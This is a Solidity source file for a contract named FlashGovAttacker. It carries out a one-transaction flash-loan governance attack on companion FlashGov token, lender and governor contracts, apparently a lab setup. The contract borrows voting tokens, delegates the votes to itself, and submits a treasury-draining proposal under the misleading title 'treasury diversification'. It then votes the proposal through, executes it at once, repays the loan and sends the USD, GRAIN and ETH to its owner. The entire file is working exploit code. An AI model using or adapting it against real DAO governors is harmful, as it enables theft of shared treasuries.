// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {FlashGovToken, FlashGovLender, FlashGovernor} from "./FlashGov.sol";

/// @title FlashGovAttacker
/// @notice Beanstalk-style governance attack, in one transaction: flash-borrow
///         GRAIN from the lender, delegate the votes to itself, propose
///         "send the whole treasury to the attacker", vote for it with more
///         than half the supply so it executes at once, repay the loan (its
///         fee paid from the stolen GRAIN) and send the loot to the owner.
contract FlashGovAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;
    FlashGovLender public immutable lender;
    FlashGovToken public immutable grain;
    FlashGovernor public immutable governor;
    IERC20 public immutable usd;

    event TreasuryTaken(uint256 proposalId, uint256 usd, uint256 grain, uint256 eth);

    error NotOwner(address caller);
    error UntrustedLender(address caller, address initiator);

    constructor(FlashGovLender lender_, FlashGovernor governor_, IERC20 usd_) {
        owner = msg.sender;
        lender = lender_;
        governor = governor_;
        grain = FlashGovToken(address(lender_.asset()));
        usd = usd_;
    }

    receive() external payable {}

    function attack(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        lender.flashLoan(this, address(grain), amount, "");
        uint256 u = usd.balanceOf(address(this));
        uint256 g = grain.balanceOf(address(this));
        uint256 e = address(this).balance;
        usd.safeTransfer(owner, u);
        IERC20(address(grain)).safeTransfer(owner, g);
        (bool ok,) = owner.call{value: e}("");
        require(ok, "eth");
        emit TreasuryTaken(governor.proposalCount(), u, g, e);
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) {
            revert UntrustedLender(msg.sender, initiator);
        }
        grain.delegate(address(this));

        address[] memory targets = new address[](3);
        uint256[] memory values = new uint256[](3);
        bytes[] memory calldatas = new bytes[](3);
        targets[0] = address(usd);
        calldatas[0] = abi.encodeCall(IERC20.transfer, (address(this), usd.balanceOf(address(governor))));
        targets[1] = address(grain);
        calldatas[1] = abi.encodeCall(IERC20.transfer, (address(this), grain.balanceOf(address(governor))));
        targets[2] = address(this);
        values[2] = address(governor).balance;

        uint256 id = governor.propose(targets, values, calldatas, "GIP-17: treasury diversification");
        governor.castVote(id, true);
        governor.execute(id, targets, values, calldatas);

        IERC20(address(grain)).forceApprove(address(lender), amount + fee);
        return CALLBACK_SUCCESS;
    }
}
